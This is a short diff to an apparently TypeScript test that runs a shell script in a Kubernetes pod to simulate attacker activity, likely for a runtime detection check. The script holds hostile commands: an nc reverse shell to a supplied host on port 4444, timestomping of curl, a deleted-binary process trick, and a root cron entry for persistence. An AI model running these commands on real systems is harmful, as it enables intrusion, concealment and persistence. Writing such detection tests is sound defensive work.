@@ -77,11 +77,11 @@ touch -r /tmp/.stamp /usr/bin/curl
 rm /tmp/.stamp
 cp /bin/busybox /tmp/sh
 (setsid /tmp/sh -c 'while :; do sleep 5; done' >/dev/null 2>&1 </dev/null &)
-sleep 0.3
+until ls -l /proc/[0-9]*/exe 2>/dev/null | grep -q ' -> /tmp/sh$'; do sleep 0.1; done
 rm /tmp/sh
 (setsid nc "$1" 4444 -e /bin/sh >/dev/null 2>&1 </dev/null &)
 echo '* * * * * root /bin/true' >/srv/jobs/logrotate-cache
-sleep 1
+until grep -qs ':115C 01 ' /proc/net/tcp /proc/net/tcp6; do sleep 0.1; done
 `;
 
 async function firstPod(kubectl: Kubectl): Promise<[string, string]> {
